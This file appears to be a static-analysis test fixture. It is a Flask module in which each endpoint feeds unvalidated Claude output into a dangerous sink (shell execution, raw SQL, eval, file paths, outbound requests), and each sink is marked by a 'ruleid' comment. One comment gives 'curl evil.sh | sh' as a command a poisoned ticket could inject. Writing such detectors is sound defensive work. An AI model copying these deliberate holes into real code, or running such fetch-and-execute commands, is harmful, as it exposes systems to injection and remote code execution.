"""Back-office helpers: ask the model for a shell command, a SQL query, a chart formula or an export file name,
then act on its answer."""
import json
import sqlite3
import subprocess

import anthropic
import requests
from flask import Blueprint, jsonify, request

reports = Blueprint("reports", __name__)
claude = anthropic.Anthropic()

SQL_PROMPT = "Translate the question into one SQLite SELECT over orders(id, customer, status, total, created_at)."
OPS_PROMPT = "You are a Linux ops assistant. Reply with exactly one shell command and nothing else."


def ask(system: str, question: str) -> str:
    reply = claude.messages.create(
        model="claude-opus-4-6",
        max_tokens=400,
        system=system,
        # ruleid: cost-unbounded-input
        messages=[{"role": "user", "content": question}],
    )
    return reply.content[0].text.strip()


@reports.post("/api/ops/run")
def run_generated_command():
    command = ask(OPS_PROMPT, request.json["task"])
    # "Check disk space" today; "curl evil.sh | sh" after one poisoned ticket.
    # ruleid: output-shell
    result = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=30)
    return jsonify(command=command, output=result.stdout)


@reports.post("/api/reports/query")
def text_to_sql():
    sql = ask(SQL_PROMPT, request.json["question"])
    conn = sqlite3.connect("data/shop.db")
    # ruleid: output-sql
    rows = conn.execute(sql).fetchall()
    return jsonify(sql=sql, rows=rows)


@reports.post("/api/reports/metric")
def metric():
    formula = ask("Reply with one Python expression over the variable totals (a list of floats).", request.json["metric"])
    totals = [row[0] for row in sqlite3.connect("data/shop.db").execute("SELECT total FROM orders").fetchall()]
    # ruleid: output-code-exec
    value = eval(formula, {"totals": totals})
    return jsonify(value=value)


@reports.post("/api/reports/export")
def export():
    name = ask("Suggest a short file name for this report, with extension.", request.json["title"])
    # ruleid: output-file-path
    with open(f"exports/{name}", "w") as handle:
        handle.write(request.json["body"])
    return jsonify(saved=name)


@reports.post("/api/reports/enrich")
def enrich():
    url = ask("Reply with the URL of the customer's public company page.", request.json["customer"])
    # ruleid: output-outbound-url
    page = requests.get(url, timeout=10)
    return jsonify(status=page.status_code)


@reports.post("/api/reports/plan")
def plan():
    # ruleid: output-unsafe-deserialize
    steps = json.loads(ask("Reply with a JSON list of report steps.", request.json["goal"]))
    return jsonify(steps=steps[:10])
